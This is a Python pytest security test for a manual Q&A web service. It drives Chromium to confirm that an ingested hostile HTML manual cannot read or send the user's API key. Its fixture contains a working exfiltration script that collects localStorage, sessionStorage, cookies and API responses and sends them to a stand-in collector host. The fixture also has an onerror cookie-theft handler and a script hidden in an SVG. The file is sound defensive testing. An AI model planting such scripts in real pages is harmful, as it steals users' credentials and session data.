"""Manuals are untrusted: a manual with a <script> cannot read or send anything the desk holds.

Real browser (Debian's Chromium through Playwright), real server with API keys, a hostile
manual ingested with the others. The agent signs in on the desk page, starts a conversation,
then opens the manual: its script tries localStorage, sessionStorage, document.cookie and
the desk's API, and to send what it finds to a collector on another port. Nothing may
arrive there and the page may not change its own title (what the issue's attack did).
"""

from __future__ import annotations

import http.server
import shutil
import threading

import pytest

from ingest.run import ingest
from query.desk.auth import hash_key
from query.ops.querylog import open_log
from query.desk.server import create_app, load
from query.desk.sessions import SessionStore
from tests.helpers import FIXTURES, ROOT, make_settings
from tests.live_server import serve
from tests.desk.test_browser import ARGS, CHROMIUM, sync_api

KEY = "mqa-desk-secret-key-0123456789"
TITLE = "방화벽 점검 안내"

HOSTILE = """<!DOCTYPE html>
<html lang="ko"><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="manual.css"></head>
<body>
<h1 id="top">방화벽 점검</h1>
<p id="body">방화벽 관리 포트는 8443번입니다. 점검은 매월 첫째 주에 합니다.</p>
<img id="logo" src="logo.svg" alt="logo">
<a id="form" href="form.pdf">점검 신청서 (PDF)</a>
<script>
(async () => {{
  const loot = {{}};
  try {{ loot.local = JSON.stringify(Object.assign({{}}, localStorage)); }} catch (e) {{ loot.local = "denied"; }}
  try {{ loot.session = JSON.stringify(Object.assign({{}}, sessionStorage)); }} catch (e) {{ loot.session = "denied"; }}
  try {{ loot.cookie = document.cookie; }} catch (e) {{ loot.cookie = "denied"; }}
  for (const path of ["/api/sessions", "/api/login"]) {{
    try {{
      const r = await fetch(path, {{headers: {{"X-Requested-With": "manual-qa"}}, credentials: "include"}});
      loot[path] = r.status + " " + (await r.text()).slice(0, 300);
    }} catch (e) {{ loot[path] = "blocked"; }}
  }}
  document.title = "stolen " + JSON.stringify(loot);
  const data = encodeURIComponent(JSON.stringify(loot));
  new Image().src = "{collector}/img?d=" + data;
  fetch("{collector}/fetch", {{method: "POST", mode: "no-cors", body: JSON.stringify(loot)}}).catch(() => {{}});
  navigator.sendBeacon && navigator.sendBeacon("{collector}/beacon", JSON.stringify(loot));
}})();
</script>
<img src="/nonexistent" onerror="document.title='handler ran'; new Image().src='{collector}/onerror?c='+document.cookie">
</body></html>
"""
CSS = "h1 { color: rgb(200, 0, 0); }\n"
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="#0a0"/>'
       '<script>fetch("/api/sessions")</script></svg>')


def _pdf() -> bytes:
    """A real PDF with a text layer (the shipped sample terms), so ingestion indexes it as an
    attachment instead of reporting a file without text."""
    return (ROOT / "data" / "manuals" / "forms" / "service_terms_2026.pdf").read_bytes()


class _Collector(http.server.BaseHTTPRequestHandler):
    """Another origin the hostile manual tries to send its loot to; records every request."""

    hits: list[str] = []

    def _record(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.hits.append(f"{self.command} {self.path} {self.rfile.read(length)[:200]!r}")
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = do_OPTIONS = _record

    def log_message(self, *args) -> None:  # quiet
        pass


@pytest.fixture(scope="module")
def collector():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Collector)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", _Collector.hits
    server.shutdown()


@pytest.fixture(scope="module")
def desk(tmp_path_factory, collector):
    base = tmp_path_factory.mktemp("hostile")
    shutil.copytree(FIXTURES, base / "manuals")
    folder = base / "manuals" / "security"
    folder.mkdir()
    (folder / "firewall.html").write_text(HOSTILE.format(title=TITLE, collector=collector[0]), encoding="utf-8")
    (folder / "manual.css").write_text(CSS, encoding="utf-8")
    (folder / "logo.svg").write_text(SVG, encoding="utf-8")
    (folder / "form.pdf").write_bytes(_pdf())
    settings = make_settings(base / "storage", api_keys=f"{hash_key(KEY)}:agent7")
    report = ingest([base / "manuals"], settings, progress=False)
    assert report.files.failed == 0, report.errors
    engine = load(settings, None)
    private = base / "private"
    private.mkdir()
    with serve(create_app(engine, SessionStore(private / "sessions.sqlite"), open_log(settings, private))) as url:
        yield url


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def shots(tmp_path_factory):
    """Screenshots for a person to look at (never into reports/: tests do not rewrite tracked files)."""
    return tmp_path_factory.mktemp("security-screenshots")


def _signed_in_desk(browser, url):
    """The agent's browser: key typed into the desk's field, one question asked."""
    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="ko-KR")
    context.set_default_timeout(30_000)
    page = context.new_page()
    page.console_messages = []  # the desk's own policy must not block the desk itself
    page.on("console", lambda message: page.console_messages.append(message.text))
    page.goto(url + "/")
    page.fill("#apikey", KEY)
    page.press("#apikey", "Enter")
    page.locator("#q").focus()  # the field's change event fires: the key is sent to /api/login
    page.fill("#q", "방화벽 관리 포트는 몇 번인가요?")
    page.keyboard.press("Enter")
    sync_api.expect(page.locator("section.turn .footer")).to_have_count(1, timeout=30_000)
    sync_api.expect(page.locator("#sessions li.current")).to_have_count(1)  # the agent's conversations load
    return context, page


def test_the_desk_keeps_no_readable_copy_of_the_key(desk, browser, shots):
    """Signed in and working, yet no script on the desk's origin can read the key."""
    context, page = _signed_in_desk(browser, desk)
    stored = page.evaluate("JSON.stringify([Object.assign({}, localStorage), Object.assign({}, sessionStorage),"
                           " document.cookie, document.getElementById('apikey').value])")
    assert KEY not in stored, stored
    assert not [m for m in page.console_messages if "Content Security Policy" in m], page.console_messages
    sync_api.expect(page.locator("#apikey")).to_have_attribute("placeholder", "키 저장됨 · agent7")
    cookie = next(c for c in context.cookies() if c["name"] == "mqa_key")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["path"] == "/api/"
    # the key still works after a reload (the cookie), and signing out forgets it
    page.reload()
    sync_api.expect(page.locator("#sessions li.current")).to_have_count(1)
    sync_api.expect(page.locator("#apikey")).to_have_attribute("placeholder", "키 저장됨 · agent7")
    page.screenshot(path=str(shots / "desk-signed-in.png"))
    page.click("#signout")
    sync_api.expect(page.locator("#sessions li")).to_have_count(0)
    sync_api.expect(page.locator("#apikey")).to_have_attribute("placeholder", "API 키 (필요할 때)")
    assert not [c for c in context.cookies() if c["name"] == "mqa_key"]
    context.close()


def test_a_manual_with_a_script_reads_and_sends_nothing(desk, browser, collector, shots):
    url = desk
    _, hits = collector
    context, page = _signed_in_desk(browser, url)
    # the agent opens the hostile manual from the answer's source link, as agents do
    source = page.locator("section.turn ol.sources a[href*='security/firewall.html']").first
    with context.expect_page() as popup:
        source.click()
    manual = popup.value
    manual.wait_for_load_state("load")
    manual.wait_for_timeout(1500)  # the script's fetches would have finished by now
    manual.screenshot(path=str(shots / "hostile-manual.png"))
    assert manual.title() == TITLE, manual.title()  # the script did not run (the attack wrote the title)
    assert hits == [], hits  # nothing sent anywhere
    # the manual still reads as a manual: its text, its own stylesheet and image
    assert "8443번" in manual.locator("#body").inner_text()
    assert manual.locator("h1").evaluate("e => getComputedStyle(e).color") == "rgb(200, 0, 0)"
    assert manual.locator("#logo").evaluate("e => e.naturalWidth") == 40
    # and its PDF attachment opens in the browser's viewer (not blocked, not a download)
    downloads: list = []
    manual.on("download", lambda d: downloads.append(d))
    response = manual.goto(url + "/manuals/security/form.pdf")
    assert response.status == 200 and response.headers["content-type"] == "application/pdf"
    manual.wait_for_timeout(1500)
    assert downloads == [] and manual.url.endswith("form.pdf")
    manual.screenshot(path=str(shots / "pdf.png"))
    # an SVG opened on its own runs no script either
    manual.goto(url + "/manuals/security/logo.svg")
    manual.wait_for_timeout(500)
    assert hits == [], hits
    context.close()
